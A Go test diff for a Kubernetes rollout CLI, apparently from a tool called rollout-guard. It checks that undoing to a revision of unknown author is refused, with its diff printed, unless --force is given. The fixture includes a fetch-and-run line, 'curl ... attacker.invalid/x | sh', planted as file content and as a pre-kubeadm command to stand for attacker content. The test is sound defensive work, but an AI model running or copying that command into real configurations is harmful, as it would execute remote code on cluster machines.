@@ -109,6 +109,16 @@ func unknownAuthorWorld(t *testing.T, adopted bool) []client.Object {
 	return append(objs, cluster, kcp)
 }
 
+// unknownAuthorDiff is what an undo from revision 3 to revision 2 of
+// unknownAuthorWorld changes: every line of the attacker's content.
+const unknownAuthorDiff = `FIELD                                        LIVE (REVISION 3)   REVISION 2
+kubeadmConfigSpec.files[/etc/x.sh].content   <none>              #!/bin/sh                                    (rolls out)
+                                                                 curl -s http://attacker.invalid/x | sh
+kubeadmConfigSpec.files[/etc/x.sh].path      <none>              /etc/x.sh                                    (rolls out)
+kubeadmConfigSpec.preKubeadmCommands         <none>              ["curl -s http://attacker.invalid/x | sh"]   (rolls out)
+metadata.labels.tier                         new                 old
+`
+
 // TestHistoryMarksUnknownAuthors: the table marks each revision of
 // unknown author and explains it below; --revision N says so first; -o
 // json|yaml has it as a field; a cluster's table does the same.
@@ -177,4 +187,79 @@ func TestHistoryMarksUnknownAuthors(t *testing.T) {
 	out, errOut, code := runFake(t, newFakeClient(gitOpsWorld(t, nil)...), gitOpsNow, "history", "md/c1-md-0")
 	require.Equal(t, ExitOK, code, errOut)
 	assert.NotContains(t, out, "(*)")
+}
+
+// TestUndoUnknownAuthor: an undo to a revision of unknown author — named,
+// or the previous revision — is refused before anything is sent, dry runs
+// and --emit alike (they are checked as the undo itself), with what it
+// would change; --force lets it through after a warning, and prints what it
+// sends; an undo to a revision with an author needs nothing more.
+func TestUndoUnknownAuthor(t *testing.T) {
+	refusal := "error: cannot undo KubeadmControlPlane demo/c1-control-plane to revision 2: its author is unknown (changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler), so nothing says its content was meant, and the rollback would apply it to every machine; nothing was changed. It would change:\n" +
+		unknownAuthorDiff +
+		"Read every line above (rollout history kubeadmcontrolplane/c1-control-plane -n demo --revision 2 prints the revision in full); to roll back to it anyway, add --force; or roll back to a revision whose author is known with --to-revision N (revision 1 has one)\n"
+	warning := "Warning: the author of revision 2 of KubeadmControlPlane demo/c1-control-plane is unknown (changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler); rolling back to it anyway (--force)\n"
+	for _, tc := range []struct {
+		name    string
+		adopted bool
+		args    []string
+		code    int
+		stdout  string // exact, when set
+		stderr  string // exact
+		written bool
+	}{
+		{name: "named", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2"}, code: ExitError, stderr: refusal},
+		{name: "the previous revision", args: []string{"undo", "kcp/c1-control-plane"}, code: ExitError, stderr: refusal},
+		{name: "client dry run", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--dry-run=client"}, code: ExitError, stderr: refusal},
+		{name: "server dry run", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--dry-run=server"}, code: ExitError, stderr: refusal},
+		{name: "emit", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--emit", "yaml"}, code: ExitError, stderr: refusal},
+		{name: "no revision with an author", adopted: true, args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2"}, code: ExitError,
+			stderr: strings.Replace(refusal, "; or roll back to a revision whose author is known with --to-revision N (revision 1 has one)", "", 1)},
+		{name: "forced", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force"}, code: ExitOK, stderr: warning, written: true,
+			stdout: "KubeadmControlPlane demo/c1-control-plane: rolling back from revision 3 to revision 2\n" + unknownAuthorDiff +
+				"kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 2 (now revision 3)\n"},
+		{name: "forced, server dry run", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force", "--dry-run=server"}, code: ExitOK, stderr: warning, written: true,
+			stdout: "KubeadmControlPlane demo/c1-control-plane: would roll back from revision 3 to revision 2 (server dry run: nothing stored)\n" + unknownAuthorDiff +
+				"kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 2 (server dry run)\n"},
+		{name: "forced, client dry run", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force", "--dry-run=client"}, code: ExitOK, stderr: warning,
+			stdout: "KubeadmControlPlane demo/c1-control-plane: would roll back from revision 3 to revision 2 (dry run: nothing sent)\n" + unknownAuthorDiff +
+				"kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 2 (dry run)\n"},
+		{name: "forced, as data", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force", "-o", "json"}, code: ExitOK, written: true,
+			stderr: warning + "KubeadmControlPlane demo/c1-control-plane: rolling back from revision 3 to revision 2\n" + unknownAuthorDiff},
+		{name: "forced, for Git", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force", "--emit", "yaml"}, code: ExitOK,
+			stderr: warning + "KubeadmControlPlane demo/c1-control-plane: printing the rollback from revision 3 to revision 2 for Git (nothing sent)\n" + unknownAuthorDiff},
+		{name: "a revision with an author", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "1"}, code: ExitOK, written: true,
+			stdout: "KubeadmControlPlane demo/c1-control-plane: rolling back from revision 3 to revision 1\n" +
+				"FIELD                  LIVE (REVISION 3)   REVISION 1\n" +
+				"metadata.labels.tier   new                 old\n" +
+				"kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 1 (now revision 3)\n"},
+		{name: "a revision adopted from before the guard", adopted: true, args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "1"}, code: ExitError,
+			stderr: "error: cannot undo KubeadmControlPlane demo/c1-control-plane to revision 1: its author is unknown (live before rollout-guard saw the object (made before the guard was installed, or created while it was down), adopted by its reconciler), so nothing says its content was meant, and the rollback would apply it to every machine; nothing was changed. It would change:\n" +
+				"FIELD                  LIVE (REVISION 3)   REVISION 1\n" +
+				"metadata.labels.tier   new                 old\n" +
+				"Read every line above (rollout history kubeadmcontrolplane/c1-control-plane -n demo --revision 1 prints the revision in full); to roll back to it anyway, add --force\n"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cl, w := newWriteRecordingClient(unknownAuthorWorld(t, tc.adopted)...)
+			out, errOut, code := runFake(t, cl, gitOpsNow, tc.args...)
+			assert.Equal(t, tc.code, code, errOut)
+			assert.Equal(t, tc.stderr, errOut)
+			if tc.stdout != "" {
+				assert.Equal(t, tc.stdout, out)
+			}
+			if tc.code != ExitOK {
+				assert.Empty(t, out)
+			}
+			if contains(tc.args, "-o") {
+				var obj controlplanev1.KubeadmControlPlane
+				require.NoError(t, json.Unmarshal([]byte(out), &obj), "stdout stays JSON: %s", out)
+				assert.Equal(t, []string{attackerCommand}, obj.Spec.KubeadmConfigSpec.PreKubeadmCommands)
+			}
+			if tc.written {
+				assert.NotEmpty(t, w.all(), "a change is sent")
+			} else {
+				assert.Empty(t, w.all(), "nothing is sent")
+			}
+		})
+	}
 }
